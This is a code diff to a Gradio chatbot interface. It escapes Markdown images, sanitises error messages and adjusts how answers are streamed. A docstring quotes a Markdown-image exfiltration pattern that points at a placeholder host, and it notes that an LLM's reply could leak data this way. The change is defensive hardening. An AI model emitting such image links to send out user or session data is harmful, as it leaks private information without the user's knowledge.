@@ -13,7 +13,7 @@ import gradio as gr
 
 from bot.answer import Answer
 from bot.corpus import Corpus, load_corpus
-from bot.errors import BotError
+from bot.errors import BotError, public_message
 from bot.feedback import FeedbackStore
 from bot.settings import Settings
 
@@ -50,8 +50,12 @@ def theme() -> gr.themes.Theme:
 
 
 def escape_md(text: str) -> str:
-    """Make text safe for the Markdown renderers: HTML shows as text, Markdown (tables, quotes) still works."""
-    return text.replace("&", "&amp;").replace("<", "&lt;")
+    """Make text safe for the Markdown renderers: HTML shows as text, Markdown (tables, quotes) still works.
+
+    Images show as their Markdown text: the browser would fetch `![x](https://any.host/?q=…)` from
+    anywhere, which lets a question or an LLM reply send data out (the page's CSP blocks it too).
+    """
+    return text.replace("&", "&amp;").replace("<", "&lt;").replace("![", "!&#91;")
 
 
 def render_answer(answer: Answer) -> str:
@@ -134,7 +138,10 @@ def stream_with_deadline(bot, question: str, history: list[dict], timeout_s: flo
 
 
 def build_ui(holder, settings: Settings, store: FeedbackStore, timeout_s: float = 30.0) -> gr.Blocks:
-    """The Blocks app: a Chat tab (chat, sources, feedback) and a Taxonomy tab."""
+    """The Blocks app: a Chat tab (chat, sources, feedback) and a Taxonomy tab.
+
+    `holder` is a web.BotHolder: `stream` answers (history bounded by bot.history), `bot` is the loaded Bot or None.
+    """
     limit = settings.max_question_chars
 
     def take_question(text: str, chat: list, raw: list):
@@ -154,8 +161,8 @@ def build_ui(holder, settings: Settings, store: FeedbackStore, timeout_s: float 
         yield chat, raw, answers, gr.skip()
         text, answer = "", None
         try:
-            current = holder.get()
-            for piece in stream_with_deadline(current, question, history, timeout_s):
+            # The holder keeps the index generation this answer started on until it is done.
+            for piece in stream_with_deadline(holder, question, history, timeout_s):
                 if isinstance(piece, Answer):
                     answer = piece
                 else:
@@ -168,7 +175,7 @@ def build_ui(holder, settings: Settings, store: FeedbackStore, timeout_s: float 
                 "content": f"⏱️ No answer within {timeout_s:g} s; the request was cut off. Please try again.",
             }
         except BotError as exc:
-            chat[-1] = {"role": "assistant", "content": f"⚠️ {escape_md(str(exc))}"}
+            chat[-1] = {"role": "assistant", "content": f"⚠️ {escape_md(public_message(str(exc)))}"}
         except Exception:
             log.exception("answering failed")
             chat[-1] = {"role": "assistant", "content": "⚠️ Something went wrong while answering; the server log has details."}
